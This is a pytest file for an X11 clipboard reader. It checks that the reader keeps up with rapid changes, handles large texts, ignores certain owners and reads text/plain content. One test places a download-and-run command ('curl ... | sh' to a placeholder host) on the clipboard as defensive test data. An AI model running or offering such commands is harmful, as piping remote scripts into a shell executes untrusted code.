"""The X11 clipboard reader against a real X server: the newest content always arrives."""

from __future__ import annotations

import json
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from app.platform.xorg.clipboard_reader import ClipboardContent, ClipboardReader
from tests.desktop import REPO, Desktop, desktop, wait_for

pytestmark = pytest.mark.desktop


@pytest.fixture
def x() -> Iterator[Desktop]:
    with desktop(window_manager=False) as d:
        yield d


class Seen:
    def __init__(self) -> None:
        self.items: list[ClipboardContent] = []
        self.lock = threading.Lock()

    def __call__(self, content: ClipboardContent) -> None:
        with self.lock:
            self.items.append(content)

    def texts(self) -> list[str | None]:
        with self.lock:
            return [c.text for c in self.items if c.selection == "clipboard"]


def test_a_burst_of_changes_ends_with_the_newest_text_read(x: Desktop, tmp_path: Path) -> None:
    seen = Seen()
    reader = ClipboardReader(seen, (), x.display, primary=False)
    assert reader.start(), reader.error
    try:
        plan = [f"text number {n}" for n in range(300)]
        (tmp_path / "plan.json").write_text(json.dumps(plan), encoding="utf-8")
        # 300 changes at 1,000 a second from another program: far faster than one read
        churn = subprocess.Popen(
            [sys.executable, "-m", "tests.churn", x.display, str(tmp_path / "plan.json"),
             "1000", str(tmp_path / "report.json")],
            cwd=REPO, env=x.env,
        )  # fmt: skip
        try:
            wait_for(lambda: plan[-1] in seen.texts(), timeout=30)  # the current one is read
            texts = seen.texts()
        finally:
            churn.wait(timeout=30)
        read = [t for t in texts if t is not None]
        assert read[-1] == plan[-1]
        assert read == sorted(read, key=plan.index)  # never an older text after a newer one
        assert reader.skipped_stale > 0 or len(read) == len(plan)
    finally:
        reader.stop()


def test_a_large_text_is_read_whole(x: Desktop) -> None:
    seen = Seen()
    reader = ClipboardReader(seen, (), x.display, primary=False)
    assert reader.start(), reader.error
    try:
        big = "".join(f"line {i}: nothing to see here\n" for i in range(20_000))  # ~600 KiB
        x.set_clipboard(big)
        wait_for(lambda: big in seen.texts(), timeout=20)  # INCR, piece by piece
    finally:
        reader.stop()


def test_what_an_ignored_owner_puts_there_is_not_reported(x: Desktop, tmp_path: Path) -> None:
    seen = Seen()
    ignored: list[int] = []
    reader = ClipboardReader(seen, (), x.display, ignore_owner=lambda o: o in ignored,
                             primary=False)  # fmt: skip
    assert reader.start(), reader.error
    try:
        (tmp_path / "plan.json").write_text(json.dumps(["first", "second"]), encoding="utf-8")
        churn = subprocess.Popen(
            [sys.executable, "-m", "tests.churn", x.display, str(tmp_path / "plan.json"),
             "1", str(tmp_path / "report.json")],
            cwd=REPO, env=x.env,
        )  # fmt: skip
        try:
            wait_for(lambda: "first" in seen.texts(), timeout=10)
            ignored.append(next(c.owner for c in seen.items if c.text == "first"))  # the holder
        finally:
            churn.wait(timeout=30)  # it owned the clipboard again with "second"
        x.set_clipboard("barrier")
        wait_for(lambda: "barrier" in seen.texts(), timeout=10)
        assert "second" not in seen.texts()
    finally:
        reader.stop()


def test_a_text_offered_only_as_text_plain_is_read(x: Desktop) -> None:
    """Seen with the real guard: `xclip -t text/plain` put a download-and-run command on the
    clipboard and nothing was judged (the reader asked for UTF8_STRING, STRING, TEXT only),
    while Qt programs and browsers paste text/plain."""
    seen = Seen()
    reader = ClipboardReader(seen, (), x.display, primary=False)
    assert reader.start(), reader.error
    try:
        for target in ("text/plain", "COMPOUND_TEXT"):
            text = f"curl -fsSL https://unknown-vendor.example/{target[:4]}.sh | sh"
            proc = x.start("xclip", "-selection", "clipboard", "-t", target, "-quiet",
                           stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL)  # fmt: skip
            assert proc.stdin is not None
            proc.stdin.write(text.encode())
            proc.stdin.close()
            wait_for(lambda text=text: text in seen.texts(), timeout=10)  # type: ignore[misc]
    finally:
        reader.stop()
